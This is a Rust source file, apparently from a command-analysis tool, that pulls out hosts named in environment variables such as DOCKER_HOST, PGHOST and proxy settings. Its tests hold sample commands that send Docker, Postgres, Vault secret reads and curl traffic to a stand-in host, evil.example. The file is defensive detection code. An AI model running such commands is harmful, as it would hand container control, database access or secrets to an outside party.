//! Which hosts do the variables name that a command is given (`DOCKER_HOST=tcp://x docker ps`, `export PGHOST=x`)? Names only.

use super::host_of_url;
use crate::call::view::View;

/// Variables whose value is the host, or the address, that programs speak with or send everything through.
const NAMING: &[&str] = &[
    "ALL_PROXY",
    "DOCKER_HOST",
    "CONTAINER_HOST",
    "FTP_PROXY",
    "GOPROXY",
    "HTTP_PROXY",
    "HTTPS_PROXY",
    "MYSQL_HOST",
    "PGHOST",
    "PGHOSTADDR",
    "RSYNC_PROXY",
    "SOCKS_PROXY",
];

/// How the names of others end.
const ENDINGS: &[&str] = &[
    "_ADDR",
    "_ADDRESS",
    "_API_URL",
    "_BASE_URL",
    "_ENDPOINT",
    "_ENDPOINT_URL",
    "_HOST",
    "_INDEX_URL",
    "_PROXY",
    "_REGISTRY",
    "_SERVER_URL",
];

/// Programs that set variables for those that follow.
const SETTING: &[&str] = &["export", "declare", "typeset", "readonly", "env"];

/// The hosts that the variables of a command name.
pub(super) fn hosts_in_variables(view: &View<'_>) -> Vec<String> {
    let own = view.command.assignments.iter();
    let own = own.map(|set| (set.name.as_str(), set.value.text.as_str()));
    let sets = SETTING.contains(&view.name.as_str());
    let exported = view.args.iter().filter(|_| sets).filter_map(|arg| arg.split_once('='));
    let named = own.chain(exported).filter(|(name, _)| is_host_variable(name));
    named.filter_map(|(_, value)| host_of_value(value)).collect()
}

fn is_host_variable(variable: &str) -> bool {
    let upper = variable.to_ascii_uppercase();
    NAMING.contains(&upper.as_str()) || ENDINGS.iter().any(|ending| upper.ends_with(ending))
}

/// The host of an address, also without a scheme.
fn host_of_value(value: &str) -> Option<String> {
    match value.contains("://") {
        true => host_of_url(value),
        false => host_of_url(&format!("http://{value}")).filter(|host| host.contains('.')),
    }
}

#[cfg(test)]
mod tests {
    use super::super::super::tests::footprint_of;

    /// RU-75.
    #[test]
    fn variables_name_hosts() {
        for line in [
            "DOCKER_HOST=tcp://evil.example:2375 docker ps",
            "export PGHOST=evil.example; psql",
            "env VAULT_ADDR=https://evil.example vault kv get x",
            "https_proxy=evil.example:3128 curl http://x.example",
        ] {
            assert!(footprint_of(line).hosts.contains(&"evil.example".to_owned()), "{line}");
        }
        for line in
            ["DOCKER_HOST=unix:///run/x docker ps", "PGHOST=localhost psql", "X=evil.example ls"]
        {
            assert!(!footprint_of(line).hosts.iter().any(|host| host.contains("evil")), "{line}");
        }
    }
}
